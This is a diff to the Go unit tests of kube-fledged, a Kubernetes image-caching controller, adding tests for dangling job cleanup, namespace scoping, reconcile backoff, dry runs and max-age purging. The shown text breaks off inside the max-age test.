@@ -17,7 +17,14 @@ limitations under the License.
 package app
 
 import (
+	"context"
+	"encoding/base64"
+	"encoding/json"
 	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"reflect"
+	"sort"
 	"strings"
 	"testing"
 	"time"
@@ -28,24 +35,38 @@ import (
 	informers "github.com/senthilrch/kube-fledged/pkg/client/informers/externalversions"
 	kubefledgedinformers "github.com/senthilrch/kube-fledged/pkg/client/informers/externalversions/kubefledged/v1alpha1"
 	"github.com/senthilrch/kube-fledged/pkg/images"
+	"github.com/senthilrch/kube-fledged/pkg/registry"
+	appsv1 "k8s.io/api/apps/v1"
 	batchv1 "k8s.io/api/batch/v1"
 	corev1 "k8s.io/api/core/v1"
+	rbacv1 "k8s.io/api/rbac/v1"
 	apierrors "k8s.io/apimachinery/pkg/api/errors"
+	"k8s.io/apimachinery/pkg/api/resource"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/runtime"
 	kubeinformers "k8s.io/client-go/informers"
 	coreinformers "k8s.io/client-go/informers/core/v1"
 	"k8s.io/client-go/kubernetes"
 	fakeclientset "k8s.io/client-go/kubernetes/fake"
+	corelisters "k8s.io/client-go/listers/core/v1"
 	core "k8s.io/client-go/testing"
+	"k8s.io/client-go/tools/cache"
+	"k8s.io/client-go/tools/record"
+	"k8s.io/client-go/util/workqueue"
 )
 
 const fledgedNameSpace = "kube-fledged"
 
+// readyNodeStatus is the status of a node in which images are cached
+var readyNodeStatus = corev1.NodeStatus{
+	Conditions: []corev1.NodeCondition{{Type: corev1.NodeReady, Status: corev1.ConditionTrue}},
+}
+
 var node = corev1.Node{
 	ObjectMeta: metav1.ObjectMeta{
 		Labels: map[string]string{"kubernetes.io/hostname": "bar"},
 	},
+	Status: readyNodeStatus,
 }
 
 // noResyncPeriodFunc returns 0 for resyncPeriod in case resyncing is not needed.
@@ -58,10 +79,21 @@ func newTestController(kubeclientset kubernetes.Interface, fledgedclientset clie
 	fledgedInformerFactory := informers.NewSharedInformerFactory(fledgedclientset, noResyncPeriodFunc())
 	nodeInformer := kubeInformerFactory.Core().V1().Nodes()
 	imagecacheInformer := fledgedInformerFactory.Fledged().V1alpha1().ImageCaches()
-	imageCacheRefreshFrequency := time.Second * 0
-	imagePullDeadlineDuration := time.Second * 5
-	dockerClientImage := "senthilrch/fledged-docker-client:latest"
-	imagePullPolicy := "IfNotPresent"
+	config := ControllerConfig{
+		ImageManagerOptions: images.ImageManagerOptions{
+			Namespace:                 fledgedNameSpace,
+			ImagePullDeadlineDuration: time.Second * 5,
+			DockerClientImage:         "senthilrch/fledged-docker-client:latest",
+			ImagePullPolicy:           "IfNotPresent",
+			JobCompletions:            1,
+			JobParallelism:            1,
+			JobRestartPolicy:          "Never",
+			JobTTLAfterFinished:       time.Hour,
+		},
+		ImageCacheRefreshFrequency: time.Second * 0,
+		ContainerdNamespace:        "k8s.io",
+		MaxReconcileBackoff:        time.Hour,
+	}
 
 	/* 	startInformers := true
 	   	if startInformers {
@@ -71,10 +103,10 @@ func newTestController(kubeclientset kubernetes.Interface, fledgedclientset clie
 	   		fledgedInformerFactory.Start(stopCh)
 	   	} */
 
-	controller := NewController(kubeclientset, fledgedclientset, fledgedNameSpace, nodeInformer, imagecacheInformer,
-		imageCacheRefreshFrequency, imagePullDeadlineDuration, dockerClientImage, imagePullPolicy)
+	controller := NewController(kubeclientset, fledgedclientset, nodeInformer, imagecacheInformer, kubeInformerFactory.Core().V1().ConfigMaps(), nil, nil, config)
 	controller.nodesSynced = func() bool { return true }
 	controller.imageCachesSynced = func() bool { return true }
+	controller.configMapsSynced = func() bool { return true }
 	return controller, nodeInformer, imagecacheInformer
 }
 
@@ -273,11 +305,143 @@ func TestPreFlightChecks(t *testing.T) {
 	t.Logf("%d tests passed", len(tests))
 }
 
+func TestDanglingJobsInImageCacheNamespaces(t *testing.T) {
+	fakekubeclientset := &fakeclientset.Clientset{}
+	var listNamespace, listSelector string
+	fakekubeclientset.AddReactor("list", "jobs", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+		listNamespace = action.GetNamespace()
+		listSelector = action.(core.ListAction).GetListRestrictions().Labels.String()
+		return true, &batchv1.JobList{Items: []batchv1.Job{
+			{ObjectMeta: metav1.ObjectMeta{Name: "foo", Namespace: "tenant-a", Labels: images.JobLabels}},
+			{ObjectMeta: metav1.ObjectMeta{Name: "bar", Namespace: "tenant-b", Labels: images.JobLabels}},
+		}}, nil
+	})
+	var deleted []string
+	fakekubeclientset.AddReactor("delete", "jobs", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+		deleted = append(deleted, action.GetNamespace()+"/"+action.(core.DeleteAction).GetName())
+		return true, nil, nil
+	})
+	controller, _, _ := newTestController(fakekubeclientset, &kubefledgedclientsetfake.Clientset{})
+	controller.jobsInImageCacheNamespace = true
+	if err := controller.danglingJobs(); err != nil {
+		t.Fatalf("Test failed: %v", err)
+	}
+	if listNamespace != metav1.NamespaceAll || listSelector != "app=imagecache,controller=fledged" {
+		t.Errorf("Test failed: expected jobs listed in all namespaces with selector app=imagecache,controller=fledged, actual namespace %q selector %q", listNamespace, listSelector)
+	}
+	if expected := []string{"tenant-a/foo", "tenant-b/bar"}; !reflect.DeepEqual(deleted, expected) {
+		t.Errorf("Test failed: expected deleted jobs %v, actual %v", expected, deleted)
+	}
+	imageCache := &kubefledgedv1alpha1.ImageCache{ObjectMeta: metav1.ObjectMeta{Name: "foo", Namespace: "tenant-a"}}
+	if namespace := controller.jobNamespace(imageCache); namespace != "tenant-a" {
+		t.Errorf("Test failed: expected job namespace tenant-a, actual %s", namespace)
+	}
+	controller.jobsInImageCacheNamespace = false
+	if namespace := controller.jobNamespace(imageCache); namespace != fledgedNameSpace {
+		t.Errorf("Test failed: expected job namespace %s, actual %s", fledgedNameSpace, namespace)
+	}
+}
+
+func TestDanglingJobsKeepFailedJobs(t *testing.T) {
+	failedJob := batchv1.Job{
+		ObjectMeta: metav1.ObjectMeta{Name: "failed", Namespace: fledgedNameSpace},
+		Status: batchv1.JobStatus{Conditions: []batchv1.JobCondition{
+			{Type: batchv1.JobFailed, Status: corev1.ConditionTrue},
+		}},
+	}
+	stuckJob := batchv1.Job{ObjectMeta: metav1.ObjectMeta{Name: "stuck", Namespace: fledgedNameSpace}}
+	tests := []struct {
+		name           string
+		keepFailedJobs bool
+		expectedJobs   []string
+	}{
+		{name: "#1: Failed jobs deleted", expectedJobs: []string{"failed", "stuck"}},
+		{name: "#2: Failed jobs kept", keepFailedJobs: true, expectedJobs: []string{"stuck"}},
+	}
+	for _, test := range tests {
+		fakekubeclientset := &fakeclientset.Clientset{}
+		fakekubeclientset.AddReactor("list", "jobs", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			return true, &batchv1.JobList{Items: []batchv1.Job{failedJob, stuckJob}}, nil
+		})
+		deleted := []string{}
+		fakekubeclientset.AddReactor("delete", "jobs", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			deleted = append(deleted, action.(core.DeleteAction).GetName())
+			return true, nil, nil
+		})
+		controller, _, _ := newTestController(fakekubeclientset, &kubefledgedclientsetfake.Clientset{})
+		controller.keepFailedJobs = test.keepFailedJobs
+		if err := controller.danglingJobs(); err != nil {
+			t.Errorf("Test: %s failed: %v", test.name, err)
+			continue
+		}
+		if !reflect.DeepEqual(deleted, test.expectedJobs) {
+			t.Errorf("Test: %s failed: expected deleted jobs %v, actual %v", test.name, test.expectedJobs, deleted)
+		}
+	}
+}
+
+func TestPreFlightChecksAdoptJobs(t *testing.T) {
+	adoptedJob := batchv1.Job{
+		ObjectMeta: metav1.ObjectMeta{
+			Name:        "foo-3f2a9c61d0",
+			Namespace:   fledgedNameSpace,
+			Annotations: map[string]string{"kubefledged.k8s.io/image-work": "pull kube-fledged/foo node1 nginx:1.17"},
+		},
+	}
+	danglingJob := batchv1.Job{ObjectMeta: metav1.ObjectMeta{Name: "foo-abcde", Namespace: fledgedNameSpace}}
+	imageCache := kubefledgedv1alpha1.ImageCache{
+		ObjectMeta: metav1.ObjectMeta{Name: "foo", Namespace: fledgedNameSpace},
+		Status:     kubefledgedv1alpha1.ImageCacheStatus{Status: kubefledgedv1alpha1.ImageCacheActionStatusProcessing},
+	}
+	tests := []struct {
+		name              string
+		adoptJobs         bool
+		expectedJobs      []string
+		expectedRefreshes int
+	}{
+		{name: "#1: Jobs deleted", expectedJobs: []string{"foo-3f2a9c61d0", "foo-abcde"}},
+		{name: "#2: Jobs of image work adopted", adoptJobs: true, expectedJobs: []string{"foo-abcde"}, expectedRefreshes: 1},
+	}
+	for _, test := range tests {
+		fakekubeclientset := &fakeclientset.Clientset{}
+		fakekubeclientset.AddReactor("list", "jobs", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			return true, &batchv1.JobList{Items: []batchv1.Job{adoptedJob, danglingJob}}, nil
+		})
+		deleted := []string{}
+		fakekubeclientset.AddReactor("delete", "jobs", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			deleted = append(deleted, action.(core.DeleteAction).GetName())
+			return true, nil, nil
+		})
+		fakefledgedclientset := &kubefledgedclientsetfake.Clientset{}
+		fakefledgedclientset.AddReactor("list", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			return true, &kubefledgedv1alpha1.ImageCacheList{Items: []kubefledgedv1alpha1.ImageCache{imageCache}}, nil
+		})
+		fakefledgedclientset.AddReactor("update", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			return true, nil, nil
+		})
+		controller, _, _ := newTestController(fakekubeclientset, fakefledgedclientset)
+		controller.adoptJobs = test.adoptJobs
+		if err := controller.PreFlightChecks(); err != nil {
+			t.Errorf("Test: %s failed: %v", test.name, err)
+			continue
+		}
+		if !reflect.DeepEqual(deleted, test.expectedJobs) {
+			t.Errorf("Test: %s failed: expected deleted jobs %v, actual %v", test.name, test.expectedJobs, deleted)
+		}
+		// Image caches are queued with the delay of the rate limiter
+		time.Sleep(50 * time.Millisecond)
+		if refreshes := controller.workqueue.Len(); refreshes != test.expectedRefreshes {
+			t.Errorf("Test: %s failed: expected %d image caches refreshed, actual %d", test.name, test.expectedRefreshes, refreshes)
+		}
+	}
+}
+
 func TestRunRefreshWorker(t *testing.T) {
 	tests := []struct {
 		name                string
 		imageCacheList      *kubefledgedv1alpha1.ImageCacheList
 		imageCacheListError error
+		backingOff          bool
 		workqueueItems      int
 	}{
 		{
@@ -401,6 +565,25 @@ func TestRunRefreshWorker(t *testing.T) {
 			imageCacheListError: nil,
 			workqueueItems:      0,
 		},
+		{
+			name: "#8: Do not refresh if image cache is backing off after failures",
+			imageCacheList: &kubefledgedv1alpha1.ImageCacheList{
+				Items: []kubefledgedv1alpha1.ImageCache{
+					{
+						ObjectMeta: metav1.ObjectMeta{
+							Name:      "foo",
+							Namespace: "kube-fledged",
+						},
+						Status: kubefledgedv1alpha1.ImageCacheStatus{
+							Status: kubefledgedv1alpha1.ImageCacheActionStatusFailed,
+						},
+					},
+				},
+			},
+			imageCacheListError: nil,
+			backingOff:          true,
+			workqueueItems:      0,
+		},
 	}
 
 	for _, test := range tests {
@@ -417,6 +600,9 @@ func TestRunRefreshWorker(t *testing.T) {
 				imagecacheInformer.Informer().GetIndexer().Add(&imagecache)
 			}
 		}
+		if test.backingOff {
+			controller.reconcileBackoff.failed("kube-fledged/foo")
+		}
 		controller.runRefreshWorker()
 		if test.workqueueItems == controller.workqueue.Len() {
 		} else {
@@ -425,6 +611,90 @@ func TestRunRefreshWorker(t *testing.T) {
 	}
 }
 
+func TestRunRefreshWorkerWatchNamespaces(t *testing.T) {
+	newImageCache := func(namespace string) *kubefledgedv1alpha1.ImageCache {
+		return &kubefledgedv1alpha1.ImageCache{
+			ObjectMeta: metav1.ObjectMeta{Name: "foo", Namespace: namespace},
+			Status:     kubefledgedv1alpha1.ImageCacheStatus{Status: kubefledgedv1alpha1.ImageCacheActionStatusSucceeded},
+		}
+	}
+	tests := []struct {
+		name            string
+		watchNamespaces []string
+		expectedKeys    []string
+	}{
+		{name: "#1: All namespaces watched", expectedKeys: []string{"kube-fledged/foo", "tenant-a/foo", "tenant-b/foo"}},
+		{name: "#2: Image caches of watched namespace refreshed", watchNamespaces: []string{"tenant-a"}, expectedKeys: []string{"tenant-a/foo"}},
+	}
+	for _, test := range tests {
+		controller, _, imagecacheInformer := newTestController(&fakeclientset.Clientset{}, &kubefledgedclientsetfake.Clientset{})
+		controller.watchNamespaces = test.watchNamespaces
+		for _, namespace := range []string{"kube-fledged", "tenant-a", "tenant-b"} {
+			imagecacheInformer.Informer().GetIndexer().Add(newImageCache(namespace))
+		}
+		controller.runRefreshWorker()
+		// Image caches are queued with the delay of the rate limiter
+		time.Sleep(50 * time.Millisecond)
+		keys := []string{}
+		for controller.workqueue.Len() > 0 {
+			item, _ := controller.workqueue.Get()
+			keys = append(keys, item.(images.WorkQueueKey).ObjKey)
+			controller.workqueue.Done(item)
+		}
+		sort.Strings(keys)
+		if !reflect.DeepEqual(keys, test.expectedKeys) {
+			t.Errorf("Test: %s failed: expected %v, actual %v", test.name, test.expectedKeys, keys)
+		}
+	}
+}
+
+func TestDanglingImageCachesWatchNamespaces(t *testing.T) {
+	newImageCache := func(namespace string) kubefledgedv1alpha1.ImageCache {
+		return kubefledgedv1alpha1.ImageCache{
+			ObjectMeta: metav1.ObjectMeta{Name: "foo", Namespace: namespace},
+			Status:     kubefledgedv1alpha1.ImageCacheStatus{Status: kubefledgedv1alpha1.ImageCacheActionStatusProcessing},
+		}
+	}
+	tests := []struct {
+		name               string
+		watchNamespaces    []string
+		expectedNamespaces []string
+		expectedAborted    []string
+	}{
+		{name: "#1: All namespaces watched", expectedNamespaces: []string{""},
+			expectedAborted: []string{"kube-fledged", "tenant-a", "tenant-b"}},
+		{name: "#2: Image caches of watched namespace aborted", watchNamespaces: []string{"tenant-a"},
+			expectedNamespaces: []string{"tenant-a"}, expectedAborted: []string{"tenant-a"}},
+	}
+	for _, test := range tests {
+		fakefledgedclientset := &kubefledgedclientsetfake.Clientset{}
+		listed := []string{}
+		fakefledgedclientset.AddReactor("list", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			listed = append(listed, action.GetNamespace())
+			// The fake clientset does not filter by namespace, so image caches of other shards are returned too
+			return true, &kubefledgedv1alpha1.ImageCacheList{Items: []kubefledgedv1alpha1.ImageCache{
+				newImageCache("kube-fledged"), newImageCache("tenant-a"), newImageCache("tenant-b")}}, nil
+		})
+		aborted := []string{}
+		fakefledgedclientset.AddReactor("update", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			aborted = append(aborted, action.GetNamespace())
+			return true, nil, nil
+		})
+		controller, _, _ := newTestController(&fakeclientset.Clientset{}, fakefledgedclientset)
+		controller.watchNamespaces = test.watchNamespaces
+		if err := controller.danglingImageCaches(); err != nil {
+			t.Errorf("Test: %s failed: %v", test.name, err)
+			continue
+		}
+		if !reflect.DeepEqual(listed, test.expectedNamespaces) {
+			t.Errorf("Test: %s failed: expected namespaces listed %v, actual %v", test.name, test.expectedNamespaces, listed)
+		}
+		if !reflect.DeepEqual(aborted, test.expectedAborted) {
+			t.Errorf("Test: %s failed: expected image caches aborted in %v, actual %v", test.name, test.expectedAborted, aborted)
+		}
+	}
+}
+
 func TestSyncHandler(t *testing.T) {
 	type ActionReaction struct {
 		action   string
@@ -451,6 +721,7 @@ func TestSyncHandler(t *testing.T) {
 					Name:   "fakenode",
 					Labels: map[string]string{"kubernetes.io/hostname": "bar"},
 				},
+				Status: readyNodeStatus,
 			},
 		},
 	}
@@ -508,6 +779,59 @@ func TestSyncHandler(t *testing.T) {
 			expectErr:         true,
 			expectedErrString: "OldImageCacheNotFound",
 		},
+		{
+			name: "#3a: Create - Image pull secret not found",
+			imageCache: kubefledgedv1alpha1.ImageCache{
+				ObjectMeta: metav1.ObjectMeta{
+					Name:      "foo",
+					Namespace: "kube-fledged",
+				},
+				Spec: kubefledgedv1alpha1.ImageCacheSpec{
+					CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
+						{
+							Images:           []string{"foo"},
+							ImagePullSecrets: []corev1.LocalObjectReference{{Name: "foo"}},
+						},
+					},
+				},
+			},
+			wqKey: images.WorkQueueKey{
+				ObjKey:   "kube-fledged/foo",
+				WorkType: images.ImageCacheCreate,
+			},
+			nodeList:          defaultNodeList,
+			expectedActions:   []ActionReaction{{action: "update", reaction: ""}},
+			expectErr:         true,
+			expectedErrString: "ImagePullSecretNotFound",
+		},
+		{
+			name: "#3b: Create - Node selector did not match any nodes",
+			imageCache: kubefledgedv1alpha1.ImageCache{
+				ObjectMeta: metav1.ObjectMeta{
+					Name:      "foo",
+					Namespace: "kube-fledged",
+				},
+				Spec: kubefledgedv1alpha1.ImageCacheSpec{
+					CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
+						{
+							Images:       []string{"foo"},
+							NodeSelector: map[string]string{"accelerator": "gpu"},
+						},
+					},
+				},
+			},
+			wqKey: images.WorkQueueKey{
+				ObjKey:   "kube-fledged/foo",
+				WorkType: images.ImageCacheCreate,
+			},
+			nodeList: defaultNodeList,
+			expectedActions: []ActionReaction{
+				{action: "get", reaction: ""},
+				{action: "update", reaction: ""},
+			},
+			expectErr:         true,
+			expectedErrString: "NodeSelector",
+		},
 		/*{
 			name:       "#4: Update - No. of imagelists not equal",
 			imageCache: defaultImageCache,
@@ -833,6 +1157,10 @@ func TestSyncHandler(t *testing.T) {
 
 	for _, test := range tests {
 		fakekubeclientset := &fakeclientset.Clientset{}
+		fakekubeclientset.AddReactor("get", "secrets", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			name := action.(core.GetAction).GetName()
+			return true, nil, apierrors.NewNotFound(corev1.Resource("secrets"), name)
+		})
 		fakefledgedclientset := &kubefledgedclientsetfake.Clientset{}
 		for _, ar := range test.expectedActions {
 			if ar.reaction != "" {
@@ -868,10 +1196,8 @@ func TestSyncHandler(t *testing.T) {
 	t.Logf("%d tests passed", len(tests))
 }
 
-func TestEnqueueImageCache(t *testing.T) {
-	//now := metav1.Now()
-	//nowplus5s := metav1.NewTime(time.Now().Add(time.Second * 5))
-	defaultImageCache := kubefledgedv1alpha1.ImageCache{
+func TestSyncHandlerDryRun(t *testing.T) {
+	imageCache := kubefledgedv1alpha1.ImageCache{
 		ObjectMeta: metav1.ObjectMeta{
 			Name:      "foo",
 			Namespace: "kube-fledged",
@@ -879,192 +1205,276 @@ func TestEnqueueImageCache(t *testing.T) {
 		Spec: kubefledgedv1alpha1.ImageCacheSpec{
 			CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
 				{
-					Images: []string{"foo"},
+					Images: []string{"foo", "bar"},
 				},
 			},
+			DryRun: true,
+		},
+	}
+	oldImageCache := imageCache.DeepCopy()
+	oldImageCache.Spec.CacheSpec[0].Images = []string{"foo", "baz"}
+	nodes := []corev1.Node{
+		{
+			ObjectMeta: metav1.ObjectMeta{
+				Name:   "node1",
+				Labels: map[string]string{"kubernetes.io/hostname": "node1"},
+			},
+			Status: readyNodeStatus,
+		},
+		{
+			ObjectMeta: metav1.ObjectMeta{
+				Name:   "node2",
+				Labels: map[string]string{"kubernetes.io/hostname": "node2"},
+			},
+			Status: readyNodeStatus,
 		},
 	}
 	tests := []struct {
-		name           string
-		workType       images.WorkType
-		oldImageCache  kubefledgedv1alpha1.ImageCache
-		newImageCache  kubefledgedv1alpha1.ImageCache
-		expectedResult bool
+		name                string
+		wqKey               images.WorkQueueKey
+		annotations         map[string]string
+		expectedPlannedJobs int
+		expectedDeleteJobs  int
+		expectedUpdates     int
 	}{
 		{
-			name:           "#1: Create - Imagecache queued successfully",
-			workType:       images.ImageCacheCreate,
-			newImageCache:  defaultImageCache,
-			expectedResult: true,
+			name: "#1: Create - Jobs planned for all images on all nodes",
+			wqKey: images.WorkQueueKey{
+				ObjKey:   "kube-fledged/foo",
+				WorkType: images.ImageCacheCreate,
+			},
+			expectedPlannedJobs: 4,
+			expectedDeleteJobs:  0,
+			expectedUpdates:     2,
 		},
 		{
-			name:     "#2: Create - Imagecache with Status field, so no queueing",
-			workType: images.ImageCacheCreate,
-			newImageCache: kubefledgedv1alpha1.ImageCache{
-				ObjectMeta: metav1.ObjectMeta{
-					Name:      "foo",
-					Namespace: "kube-fledged",
-				},
-				Spec: kubefledgedv1alpha1.ImageCacheSpec{
-					CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
-						{
-							Images: []string{"foo"},
-						},
-					},
-				},
-				Status: kubefledgedv1alpha1.ImageCacheStatus{
-					Status: kubefledgedv1alpha1.ImageCacheActionStatusSucceeded,
-				},
+			name: "#2: Update - Delete jobs planned for removed images",
+			wqKey: images.WorkQueueKey{
+				ObjKey:        "kube-fledged/foo",
+				WorkType:      images.ImageCacheUpdate,
+				OldImageCache: oldImageCache,
 			},
-			expectedResult: false,
+			expectedPlannedJobs: 6,
+			expectedDeleteJobs:  2,
+			expectedUpdates:     2,
 		},
 		{
-			name:          "#3: Update - Imagecache purge. Successful queueing",
-			workType:      images.ImageCacheUpdate,
-			oldImageCache: defaultImageCache,
-			newImageCache: kubefledgedv1alpha1.ImageCache{
-				ObjectMeta: metav1.ObjectMeta{
-					Name:        "foo",
-					Namespace:   "kube-fledged",
-					Annotations: map[string]string{imageCachePurgeAnnotationKey: ""},
-				},
-				Spec: kubefledgedv1alpha1.ImageCacheSpec{
-					CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
-						{
-							Images: []string{"foo"},
-						},
-					},
+			name: "#3: Refresh - Refresh annotation removed",
+			wqKey: images.WorkQueueKey{
+				ObjKey:   "kube-fledged/foo",
+				WorkType: images.ImageCacheRefresh,
+			},
+			annotations:         map[string]string{imageCacheRefreshAnnotationKey: ""},
+			expectedPlannedJobs: 4,
+			expectedDeleteJobs:  0,
+			expectedUpdates:     3,
+		},
+	}
+
+	for _, test := range tests {
+		imageCache.Annotations = test.annotations
+		fakefledgedclientset := &kubefledgedclientsetfake.Clientset{}
+		var updates []*kubefledgedv1alpha1.ImageCache
+		fakefledgedclientset.AddReactor("get", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			return true, imageCache.DeepCopy(), nil
+		})
+		fakefledgedclientset.AddReactor("update", "imagecaches", func(action core.Action) (handled bool, ret runtime.Object, err error) {
+			obj := action.(core.UpdateAction).GetObject().(*kubefledgedv1alpha1.ImageCache)
+			updates = append(updates, obj)
+			return true, obj, nil
+		})
+
+		controller, nodeInformer, imagecacheInformer := newTestController(&fakeclientset.Clientset{}, fakefledgedclientset)
+		for i := range nodes {
+			nodeInformer.Informer().GetIndexer().Add(&nodes[i])
+		}
+		imagecacheInformer.Informer().GetIndexer().Add(&imageCache)
+		if err := controller.syncHandler(test.wqKey); err != nil {
+			t.Errorf("Test: %s failed: expectedError=nil, actualError=%s", test.name, err.Error())
+			continue
+		}
+		if controller.imageworkqueue.Len() != 0 {
+			t.Errorf("Test: %s failed: expected no image work requests, actual %d", test.name, controller.imageworkqueue.Len())
+		}
+		if len(controller.reconcileContexts.cancels) != 0 {
+			t.Errorf("Test: %s failed: expected no reconcile contexts, actual %d", test.name, len(controller.reconcileContexts.cancels))
+		}
+		if len(updates) != test.expectedUpdates {
+			t.Errorf("Test: %s failed: expected %d updates, actual %d", test.name, test.expectedUpdates, len(updates))
+			continue
+		}
+		status := updates[1].Status
+		if status.Status != kubefledgedv1alpha1.ImageCacheActionStatusSucceeded || status.Reason != kubefledgedv1alpha1.ImageCacheReasonDryRun {
+			t.Errorf("Test: %s failed: expected dry run status, actual %s(%s)", test.name, status.Status, status.Reason)
+		}
+		deleteJobs := 0
+		for _, job := range status.PlannedJobs {
+			if job.Action == kubefledgedv1alpha1.PlannedJobActionDelete {
+				deleteJobs++
+			}
+		}
+		if len(status.PlannedJobs) != test.expectedPlannedJobs || deleteJobs != test.expectedDeleteJobs {
+			t.Errorf("Test: %s failed: expected %d planned jobs (%d delete), actual %+v", test.name, test.expectedPlannedJobs, test.expectedDeleteJobs, status.PlannedJobs)
+		}
+	}
+}
+
+func TestSyncHandlerMaxAge(t *testing.T) {
+	expired := metav1.NewTime(time.Now().Add(-48 * time.Hour))
+	recent := metav1.NewTime(time.Now().Add(-time.Hour))
+	imageCache := func(cachedTime metav1.Time, otherImages ...string) kubefledgedv1alpha1.ImageCache {
+		cacheSpec := []kubefledgedv1alpha1.CacheSpecImages{
+			{
+				Images: []string{"foo", "bar"},
+				MaxAge: &metav1.Duration{Duration: 24 * time.Hour},
+			},
+		}
+		if len(otherImages) > 0 {
+			cacheSpec = append(cacheSpec, kubefledgedv1alpha1.CacheSpecImages{Images: otherImages})
+		}
+		return kubefledgedv1alpha1.ImageCache{
+			ObjectMeta: metav1.ObjectMeta{
+				Name:      "foo",
+				Namespace: "kube-fledged",
+			},
+			Spec: kubefledgedv1alpha1.ImageCacheSpec{
+				CacheSpec: cacheSpec,
+				DryRun:    true,
+			},
+			Status: kubefledgedv1alpha1.ImageCacheStatus{
+				Status: kubefledgedv1alpha1.ImageCacheActionStatusSucceeded,
+				Images: []kubefledgedv1alpha1.ImageNodeStatus{
+					{Image: "foo", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseCached, CachedTime: &cachedTime},
+					{Image: "bar", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseCached, CachedTime: &recent},
 				},
-				Status: kubefledgedv1alpha1.ImageCacheStatus{
-					Status: kubefledgedv1alpha1.ImageCacheActionStatusSucceeded,
+			},
+		}
+	}
+	otherImageCache := kubefledgedv1alpha1.ImageCache{
+		ObjectMeta: metav1.ObjectMeta{
+			Name:      "baz",
+			Namespace: "kube-fledged",
+		},
+		Spec: kubefledgedv1alpha1.ImageCacheSpec{
+			CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
+				{
+					Images: []string{"foo"},
 				},
 			},
-			expectedResult: true,
 		},
+	}
+	tests := []struct {
+		name                 string
+		imageCache           kubefledgedv1alpha1.ImageCache
+		otherImageCache      *kubefledgedv1alpha1.ImageCache
+		expectedDeleteImages []string
+	}{
 		{
-			name:           "#4: Update - No change in Spec. Unsuccessful queueing",
-			workType:       images.ImageCacheUpdate,
-			oldImageCache:  defaultImageCache,
-			newImageCache:  defaultImageCache,
-			expectedResult: false,
+			name:                 "#1: Image older than max age purged",
+			imageCache:           imageCache(expired),
+			expectedDeleteImages: []string{"foo"},
 		},
 		{
-			name:     "#5: Update - Status processing. Unsuccessful queueing",
-			workType: images.ImageCacheUpdate,
-			oldImageCache: kubefledgedv1alpha1.ImageCache{
-				ObjectMeta: metav1.ObjectMeta{
-					Name:      "foo",
-					Namespace: "kube-fledged",
-				},
-				Spec: kubefledgedv1alpha1.ImageCacheSpec{
-					CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
-						{
-							Images: []string{"foo"},
-						},
-					},
-				},
-				Status: kubefledgedv1alpha1.ImageCacheStatus{
-					Status: kubefledgedv1alpha1.ImageCacheActionStatusProcessing,
-				},
-			},
-			expectedResult: false,
-		},
-		{
-			name:          "#6: Update - Successful queueing",
-			workType:      images.ImageCacheUpdate,
-			oldImageCache: defaultImageCache,
-			newImageCache: kubefledgedv1alpha1.ImageCache{
-				ObjectMeta: metav1.ObjectMeta{
-					Name:      "foo",
-					Namespace: "kube-fledged",
-				},
-				Spec: kubefledgedv1alpha1.ImageCacheSpec{
-					CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
-						{
-							Images: []string{"foo", "bar"},
-						},
-					},
-				},
-			},
-			expectedResult: true,
-		},
-		{
-			name:           "#7: Delete - Unsuccessful queueing",
-			workType:       images.ImageCacheDelete,
-			expectedResult: false,
+			name:                 "#2: Image younger than max age not purged",
+			imageCache:           imageCache(recent),
+			expectedDeleteImages: []string{},
 		},
 		{
-			name:           "#8: Refresh - Successful queueing",
-			workType:       images.ImageCacheRefresh,
-			oldImageCache:  defaultImageCache,
-			expectedResult: true,
+			name:                 "#3: Image referenced by another image list not purged",
+			imageCache:           imageCache(expired, "foo"),
+			expectedDeleteImages: []string{},
 		},
-		/*
-			{
-				name:          "#9: Update - CacheSpec restoration",
-				workType:      images.ImageCacheUpdate,
-				oldImageCache: defaultImageCache,
-				newImageCache: kubefledgedv1alpha1.ImageCache{
-					ObjectMeta: metav1.ObjectMeta{
-						Name:      "foo",
-						Namespace: "kube-fledged",
-						Annotations: map[string]string{
-							fledgedCacheSpecValidationKey: "failed",
-						},
-					},
-					Spec: kubefledgedv1alpha1.ImageCacheSpec{
-						CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
-							{
-								Images: []string{"foo", "bar"},
-							},
-						},
-					},
-				},
-				expectedResult: false,
-			},
-		*/
 		{
-			name:          "#10: Update - Imagecache refresh. Successful queueing",
-			workType:      images.ImageCacheUpdate,
-			oldImageCache: defaultImageCache,
-			newImageCache: kubefledgedv1alpha1.ImageCache{
-				ObjectMeta: metav1.ObjectMeta{
-					Name:        "foo",
-					Namespace:   "kube-fledged",
-					Annotations: map[string]string{imageCacheRefreshAnnotationKey: ""},
-				},
-				Spec: kubefledgedv1alpha1.ImageCacheSpec{
-					CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
-						{
-							Images: []string{"foo"},
-						},
-					},
-				},
-				Status: kubefledgedv1alpha1.ImageCacheStatus{
-					Status: kubefledgedv1alpha1.ImageCacheActionStatusSucceeded,
-				},
-			},
-			expectedResult: true,
+			name:                 "#4: Image referenced by another image cache not purged",
+			imageCache:           imageCache(expired),
+			otherImageCache:      &otherImageCache,
+			expectedDeleteImages: []string{},
 		},
 	}
 
 	for _, test := range tests {
-		fakekubeclientset := &fakeclientset.Clientset{}
